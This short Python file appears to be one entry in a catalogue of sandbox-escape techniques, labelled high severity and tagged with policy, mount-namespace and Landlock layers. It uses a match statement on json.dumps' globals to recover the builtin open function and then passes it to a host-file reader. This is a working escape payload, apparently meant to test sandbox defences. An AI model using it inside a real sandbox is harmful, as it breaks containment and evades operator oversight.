# technique: nested mapping patterns read a table inside an attribute
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import json

def trick():
    match json.dumps:
        case object(__globals__={"__builtins__": {"open": found}}):
            return found

read_host(trick)
